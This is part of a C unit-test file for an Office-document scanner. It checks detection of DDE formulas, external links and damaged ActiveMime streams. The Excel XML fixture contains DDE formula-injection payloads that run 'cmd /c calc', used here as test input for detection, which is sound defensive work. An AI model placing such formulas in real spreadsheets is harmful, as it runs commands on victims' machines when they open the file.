	/* a local template is not an injection; damage is a fact */
	static const char w2[] = W2003 "<w:docPr><w:attachedTemplate w:val=\"Normal.dotm\"/>"
	    "</w:docPr><w:body><w:p>";
	t = build("b.doc", (const uint8_t *)w2, sizeof(w2) - 1);
	expect_root(t, "wordxml", "DOCUMENT_MALFORMED(flat XML: *", "");
	obj_tree_free(t);

	/* Excel 2003 XML: DDE formulas (the CSV rule), external links */
	static const char x[] = "<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:"
	    "office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">"
	    "<Worksheet><Table><Row><Cell ss:Formula=\"=SUM(R1C1:R2C1)\"/>"
	    "<Cell ss:Formula=\"=cmd|'/c calc'!A0\"/><Cell ss:Formula=\"=DDE(&quot;cmd&quot;;"
	    "&quot;/c calc&quot;;&quot;x&quot;)\"/><Cell ss:HRef=\"#Sheet1!A1\"/>"
	    "<Cell ss:HRef=\"https://pay.example/\"/></Row></Table></Worksheet></Workbook>";
	t = build("b.xls", (const uint8_t *)x, sizeof(x) - 1);
	expect_root(t, "excelxml", "DDE_FIELD(=cmd|'/c calc'!A0)\n"
	    "DDE_FIELD(=DDE(\"cmd\";\"/c calc\";\"x\"))", "https://pay.example/");
	obj_tree_free(t);
}

static void
test_activemime_damaged(void **state)
{
	(void)state;
	/* no zlib stream at any known offset: damaged, no child */
	static const uint8_t junk[] = "ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff"
	    "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz";
	struct obj_tree *t = build("editdata.mso", junk, sizeof(junk) - 1);
	const struct mobj *root = g_ptr_array_index(t->roots, 0);
	assert_string_equal(root->type->name, "activemime");
	assert_true(root->flags & OBJ_DAMAGED);
	assert_int_equal(root->children->len, 0);
	obj_tree_free(t);

	/* a stream cut short: the child is damaged and truncated */
	uint8_t in[4096], z[8192];
	for (size_t i = 0; i < sizeof(in); i++)
		in[i] = (uint8_t)(i * 7 + (i >> 5));
	uLongf zn = sizeof(z);
	assert_int_equal(compress(z, &zn, in, sizeof(in)), Z_OK);
	GByteArray *a = g_byte_array_new();
	uint8_t h[0x32];
	memset(h, 0, sizeof(h));
	memcpy(h, "ActiveMime", 10);
	h[0x1E] = 4;
	g_byte_array_append(a, h, sizeof(h));
	g_byte_array_append(a, z, (guint)(zn / 2));
	t = build("oledata.mso", a->data, a->len);
	const struct mobj *c = by_path(t, "oledata.mso/oledata.ole");
	assert_non_null(c);
	assert_true(c->flags & OBJ_DAMAGED);
	obj_tree_free(t);
	/* whole: inflated exactly */
	g_byte_array_set_size(a, sizeof(h));
	g_byte_array_append(a, z, (guint)zn);
	t = build("oledata.mso", a->data, a->len);
	c = by_path(t, "oledata.mso/oledata.ole");
	assert_non_null(c);
	assert_false(c->flags & OBJ_DAMAGED);
	assert_int_equal(c->len, sizeof(in));
	assert_memory_equal(c->data, in, sizeof(in));
	obj_tree_free(t);
	g_byte_array_unref(a);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dde_docx),
		cmocka_unit_test(test_dde_xlsx),
		cmocka_unit_test(test_dde_csv),
		cmocka_unit_test(test_external_link_docx),
		cmocka_unit_test(test_xlm_xlsm),
		cmocka_unit_test(test_embedded_package),
		cmocka_unit_test(test_clean),
		cmocka_unit_test(test_made_docx),
		cmocka_unit_test(test_made_xlsm),
		cmocka_unit_test(test_hostile_xml),
		cmocka_unit_test(test_flat_forms),
		cmocka_unit_test(test_activemime_damaged),
		cmocka_unit_test(test_rtf_issue_251),
		cmocka_unit_test(test_rtf_clam),
		cmocka_unit_test(test_rtf_made),
		cmocka_unit_test(test_rtf_template),
		cmocka_unit_test(test_rtf_prefixes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
